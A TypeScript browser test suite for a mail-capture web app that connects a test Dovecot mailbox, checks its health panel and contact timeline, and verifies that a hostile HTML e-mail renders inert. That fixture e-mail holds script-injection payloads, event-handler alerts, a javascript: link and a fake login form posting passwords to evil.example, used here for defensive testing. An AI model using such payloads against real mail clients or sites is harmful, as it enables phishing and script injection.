import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Database } from '../../src/adapters/db/database.js';
import { startServer } from '../../src/http/start-server.js';
import { startDovecot, type DovecotServer } from '../support/dovecot.js';
import { adminCredentials } from '../support/test-app.js';
import { openTestDatabase, testBackends, type TestDatabase } from '../support/test-database.js';
import {
  launchBrowser,
  openBrowserTestCore,
  requireBrowserSetup,
  screenshots,
  signIn,
} from '../support/browser.js';

/**
 * Capture in the built web UI: connecting a real Dovecot mailbox through the
 * form, the health panel, a contact's timeline, relinking a thread, and a
 * hostile e-mail rendered inert. Needs `npm run build` (web/dist).
 */

const admin = adminCredentials;
const imapUser = 'admin-mail';
const imapPassword = 'imap-secret-42';

beforeAll(requireBrowserSetup);

/** Northwind Traders with Ada on the renewal deal, and a pilot deal nobody is on yet. */
async function seed(db: Database): Promise<void> {
  const [account] = await db.query<{ id: string }>(
    `INSERT INTO accounts (name, external_id, owner_id)
     VALUES ('Northwind Traders', 'ACC-1', (SELECT id FROM users LIMIT 1)) RETURNING id`,
  );
  await db.query(
    `INSERT INTO account_domains (account_id, domain, position) VALUES ($1, 'northwind-traders.example', 0)`,
    [account!.id],
  );
  const [ada] = await db.query<{ id: string }>(
    `INSERT INTO contacts (account_id, first_name, last_name, title, country)
     VALUES ($1, 'Ada', 'Lovelace', 'CTO', 'GB') RETURNING id`,
    [account!.id],
  );
  await db.query(
    `INSERT INTO contact_emails (contact_id, address, position) VALUES ($1, 'ada@northwind-traders.example', 0)`,
    [ada!.id],
  );
  const [renewal] = await db.query<{ id: string }>(
    `INSERT INTO deals (account_id, name, stage, amount, product)
     VALUES ($1, 'Northwind renewal', 'Negotiation', 48000, 'Platform') RETURNING id`,
    [account!.id],
  );
  await db.query(
    `INSERT INTO deal_contacts (deal_id, contact_id, role) VALUES ($1, $2, 'Decision maker')`,
    [renewal!.id, ada!.id],
  );
  await db.query(
    `INSERT INTO deals (account_id, name, stage, amount, product)
     VALUES ($1, 'Northwind pilot', 'Discovery', 5000, 'Pilot')`,
    [account!.id],
  );
}

const daysAgo = (days: number) => new Date(Date.now() - days * 86_400_000).toUTCString();

function rawMail(fields: {
  id: string;
  subject: string;
  date: string;
  contentType: string;
  body: string;
}): string {
  return [
    'From: Ada Lovelace <ada@northwind-traders.example>',
    `To: ${admin.email}`,
    `Subject: ${fields.subject}`,
    `Date: ${fields.date}`,
    `Message-ID: <${fields.id}@northwind-traders.example>`,
    'MIME-Version: 1.0',
    `Content-Type: ${fields.contentType}; charset=utf-8`,
    '',
    fields.body,
    '',
  ].join('\r\n');
}

const quote = rawMail({
  id: 'quote',
  subject: 'Renewal quote',
  date: daysAgo(2),
  contentType: 'text/plain',
  body: [
    'Thanks, the quote looks fine.',
    '',
    'On Monday, you wrote:',
    '> Here is the renewal quote.',
    '> Regards',
  ].join('\r\n'),
});

/** Every trick an e-mail can play on a web page, pointed at hosts the test watches for. */
const hostile = rawMail({
  id: 'hostile',
  subject: 'Quarterly newsletter',
  date: daysAgo(1),
  contentType: 'text/html',
  body: `<html><head>
<style>body { background: url(https://evil.example/bg.png) } @import url(https://evil.example/x.css);</style>
<link rel="stylesheet" href="https://evil.example/style.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
</head><body>
<script>parent.document.title = 'pwned'; top.location = 'https://evil.example/script';</script>
<p onmouseover="alert(1)" style="background-image: url(https://evil.example/p.png); position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999">Hello from <b>Northwind</b></p>
<img src="https://tracker.example/open.gif?u=ada" width="1" height="1" alt="">
<img src="x" onerror="alert(2)" alt="broken">
<a href="javascript:alert(3)">Claim your prize</a>
<a href="https://northwind-traders.example/report">Read the report</a>
<iframe src="https://evil.example/frame"></iframe>
<svg onload="alert(4)"><image href="https://evil.example/svg.png"/></svg>
<form action="https://evil.example/login"><input name="password"><button>Sign in</button></form>
<object data="https://evil.example/x.swf"></object>
<video src="https://evil.example/v.mp4" autoplay></video>
<blockquote>Earlier: the newsletter of last quarter</blockquote>
</body></html>`,
});

describe.each(testBackends())('capture in the web UI (%s)', (backend) => {
  let handle: TestDatabase;
  let dovecot: DovecotServer;
  let server: Awaited<ReturnType<typeof startServer>>;
  let browser: Awaited<ReturnType<typeof launchBrowser>>;
  let page: Page;
  const foreignRequests: string[] = [];
  const dialogs: string[] = [];

  beforeAll(async () => {
    [handle, dovecot] = await Promise.all([openTestDatabase(backend), startDovecot()]);
    await dovecot.addUser(imapUser, imapPassword);
    await dovecot.appendMessage(imapUser, 'INBOX', quote);
    await dovecot.appendMessage(imapUser, 'INBOX', hostile);
    const core = await openBrowserTestCore(handle.database);
    await seed(core.database);
    await core.directory.invalidate();
    server = await startServer(core);
    browser = await launchBrowser({ width: 1280, height: 900 });
    page = browser.context.pages()[0] ?? (await browser.context.newPage());
    page.setDefaultTimeout(8_000);
    const own = new URL(server.url).host;
    page.on('request', (request) => {
      const url = new URL(request.url());
      if (!['about:', 'data:'].includes(url.protocol) && url.host !== own) {
        foreignRequests.push(request.url());
      }
    });
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto(server.url);
    await signIn(page, admin);
    await page.getByRole('heading', { name: 'Accounts', level: 1 }).waitFor();
  }, 30_000);

  afterAll(async () => {
    await browser?.close();
    await server?.http.close();
    await handle?.drop();
    await dovecot?.stop();
  });

  async function fillConnection(password: string) {
    await page.getByLabel('Provider').selectOption('custom');
    await page.getByLabel('Name shown in Threadline').fill('Work mail');
    // The calendars panel on the same page asks for a user name too.
    await page
      .getByRole('form', { name: 'Connect a mailbox' })
      .getByLabel('User name')
      .fill(imapUser);
    await page.getByLabel('Password or app password').fill(password);
    await page.getByLabel('IMAP server').fill(dovecot.host);
    await page.getByLabel('IMAP port').fill(String(dovecot.port));
    await page.getByLabel('Security', { exact: true }).selectOption('none');
  }

  it('explains a wrong password in words, with what to do', async () => {
    await page
      .getByRole('navigation', { name: 'Main' })
      .getByRole('link', { name: 'Mailboxes' })
      .click();
    await page.getByRole('heading', { name: 'Mailboxes', level: 1 }).waitFor();
    // A preset fills in the provider's servers.
    await page.getByLabel('Provider').selectOption({ label: 'Fastmail' });
    expect(await page.getByLabel('IMAP server').inputValue()).toBe('imap.fastmail.com');
    await fillConnection('not-the-password');
    await page.getByRole('button', { name: 'Test connection' }).click();
    const alert = page.getByRole('alert');
    await alert.waitFor();
    const text = await alert.textContent();
    expect(text).toContain('Wrong user name or password');
    expect(text).toContain('app password');
    expect(text).toContain('AUTH_FAILED');
    expect(await page.getByRole('button', { name: 'Connect mailbox' }).count()).toBe(0);
  });

  it('connects the mailbox through the form and shows its health', async () => {
    await page.getByLabel('Password or app password').fill(imapPassword);
    await page.getByRole('button', { name: 'Test connection' }).click();
    await page.getByText(/^Connected\. The server has \d+ folders\./).waitFor();
    const inbox = page.getByRole('group', { name: 'Folders to capture' }).getByLabel('INBOX');
    expect(await inbox.isChecked()).toBe(true);
    await page.getByLabel('Conversations from the last (days)').fill('60');
    await page.getByLabel('Full e-mail without attachments').check();
    await page.getByText('Who else sees this mail follows your sharing setting').waitFor();
    await page.getByText('private, only you').waitFor();
    await page.screenshot({ path: join(screenshots, 'mailbox-setup.png'), fullPage: true });
    await page.getByRole('button', { name: 'Connect mailbox' }).click();
    await page.getByText('Work mail is connected').waitFor();

    const health = page.getByRole('region', { name: 'Health: Work mail' });
    await health.locator('.health-head').getByText('Up to date').waitFor({ timeout: 20_000 });
    // The notice follows the health: it no longer says history is being imported.
    await page.getByText('Work mail is connected and up to date.').waitFor({ timeout: 10_000 });
    const inboxRow = health.getByRole('row').filter({ hasText: 'INBOX' });
    await expect
      .poll(async () => inboxRow.innerText(), { timeout: 10_000 })
      .toMatch(/\t2\t2\t0\t0\t/);
    await page.screenshot({ path: join(screenshots, 'mailbox-health.png'), fullPage: true });
  });

  it('shows the captured thread on the contact’s timeline with reasons', async () => {
    await page
      .getByRole('navigation', { name: 'Main' })
      .getByRole('link', { name: 'Contacts' })
      .click();
    await page.getByRole('link', { name: 'Ada Lovelace' }).click();
    await page.getByRole('heading', { name: 'Ada Lovelace', level: 1 }).waitFor();
    const conversations = page.getByRole('region', { name: /^Conversations/ });
    const thread = conversations.getByRole('article', { name: 'Renewal quote' });
    await thread.waitFor();
    const filedOn = thread.getByRole('list', { name: 'Filed on' });
    expect(await filedOn.innerText()).toContain('Northwind renewal');
    expect(await filedOn.innerText()).toMatch(/address ada@northwind-traders\.example · 100%/);
    const activity = page.getByRole('region', { name: 'Activity' });
    expect(await activity.innerText()).toContain('2 in 2 threads (2 in, 0 out)');
    await thread.getByRole('button', { name: 'Renewal quote' }).click();
    await thread.getByText('Thanks, the quote looks fine.').waitFor();
    await page.screenshot({ path: join(screenshots, 'contact-timeline.png'), fullPage: true });
  });

  it('relinks the thread to another deal from the timeline', async () => {
    const thread = page.getByRole('article', { name: 'Renewal quote' });
    await thread.getByRole('button', { name: 'Relink from Northwind renewal' }).click();
    const picker = thread.getByRole('group', { name: /^Move from Northwind renewal/ });
    expect(await picker.getByLabel('Record type').inputValue()).toBe('deal');
    await picker.getByLabel('Find a record').fill('pilot');
    await picker.getByRole('button', { name: 'Find' }).click();
    await picker.getByRole('button', { name: 'Northwind pilot' }).click();
    const filedOn = thread.getByRole('list', { name: 'Filed on' });
    await filedOn.getByRole('link', { name: 'Northwind pilot' }).waitFor();
    expect(await filedOn.innerText()).toContain(`added by ${admin.email} · 100%`);
    expect(await filedOn.getByRole('link', { name: 'Northwind renewal' }).count()).toBe(0);

    await filedOn.getByRole('link', { name: 'Northwind pilot' }).click();
    await page.getByRole('heading', { name: 'Northwind pilot', level: 1 }).waitFor();
    await page.getByRole('article', { name: 'Renewal quote' }).waitFor();
  });

  it('shows a plain-text message with its quoted history collapsed', async () => {
    const thread = page.getByRole('article', { name: 'Renewal quote' });
    await thread.getByRole('button', { name: 'Renewal quote' }).click();
    await thread.getByRole('link', { name: 'Renewal quote' }).click();
    await page.getByRole('heading', { name: 'Renewal quote', level: 1 }).waitFor();
    await page.getByText('Thanks, the quote looks fine.').waitFor();
    expect(await page.getByText('Here is the renewal quote.').isVisible()).toBe(false);
    await page.getByText('Show quoted text').click();
    expect(await page.getByText('Here is the renewal quote.').isVisible()).toBe(true);
  });

  it('renders a hostile e-mail inert and asks nothing of any other host', async () => {
    foreignRequests.length = 0;
    await page.getByRole('link', { name: 'Search' }).click();
    await page.getByLabel('Search mail').fill('newsletter');
    await page.getByRole('button', { name: 'Search' }).click();
    await page.getByRole('link', { name: 'Quarterly newsletter' }).click();
    await page.getByRole('heading', { name: 'Quarterly newsletter', level: 1 }).waitFor();

    const frameElement = page.locator('iframe[title="Message body"]');
    expect(await frameElement.getAttribute('sandbox')).not.toContain('allow-scripts');
    expect(await frameElement.getAttribute('srcdoc')).toContain(
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'`,
    );
    const body = page.frameLocator('iframe[title="Message body"]');
    await body.getByText('Hello from').waitFor();
    expect(
      await body.locator('script, iframe, object, form, svg, video, link, style[src]').count(),
    ).toBe(0);
    expect(await body.locator('[onmouseover], [onerror], [onload]').count()).toBe(0);
    expect(await body.locator('img[src]').count()).toBe(0);
    expect(await body.getByText('Claim your prize').getAttribute('href')).toBeNull();
    expect(await body.getByRole('link', { name: 'Read the report' }).getAttribute('rel')).toContain(
      'noopener',
    );
    // The quoted history is folded away, without a script.
    expect(await body.getByText('the newsletter of last quarter').isVisible()).toBe(false);
    await body.getByText('Show quoted text').waitFor();
    await page.getByText('1 remote image was blocked').waitFor();
    await page.screenshot({ path: join(screenshots, 'message-reader.png'), fullPage: true });

    await page.waitForTimeout(300);
    expect(await page.title()).toBe('Quarterly newsletter · Threadline');
    expect(page.url()).toContain('/messages/');
    expect(dialogs).toEqual([]);
    expect(foreignRequests).toEqual([]);

    // Asked for, the tracking image is requested, from our image proxy: the page
    // still asks no other host, and seeing the frame's request here shows the
    // empty list above is a real observation, not a blind spot.
    const proxied = page.waitForRequest((request) =>
      request.url().includes(`/images?url=${encodeURIComponent('https://tracker.example/')}`),
    );
    await page.getByRole('button', { name: 'Show images' }).click();
    await body.locator('img[src^="/api/messages/"]').waitFor({ state: 'attached' });
    await proxied;
    expect(foreignRequests).toEqual([]);
    expect(dialogs).toEqual([]);
  });

  it('pauses and resumes, refuses a wrong new password, and disconnects keeping the mail', async () => {
    await page
      .getByRole('navigation', { name: 'Main' })
      .getByRole('link', { name: 'Mailboxes' })
      .click();
    const health = page.getByRole('region', { name: 'Health: Work mail' });
    const state = health.locator('.health-head .state');
    await health.getByRole('button', { name: 'Pause' }).click();
    await expect.poll(() => state.innerText(), { timeout: 10_000 }).toBe('Paused');
    await health.getByRole('button', { name: 'Resume' }).click();
    await expect.poll(() => state.innerText(), { timeout: 20_000 }).toBe('Up to date');

    await health.getByRole('button', { name: 'Edit' }).click();
    await health.getByText('only counts towards who talks to whom').waitFor();
    await health.getByLabel('New password or app password (leave empty to keep)').fill('wrong');
    await health.getByRole('button', { name: 'Save changes' }).click();
    expect(await health.getByRole('alert').innerText()).toContain('refused the user name');

    await health.getByRole('button', { name: 'Disconnect' }).first().click();
    await health.getByLabel('Keep the mail already captured').check();
    await page.screenshot({ path: join(screenshots, 'mailbox-disconnect.png'), fullPage: true });
    await health.getByRole('button', { name: 'Disconnect' }).last().click();
    await page.getByText('No mailbox connected yet.').waitFor();
  });
});
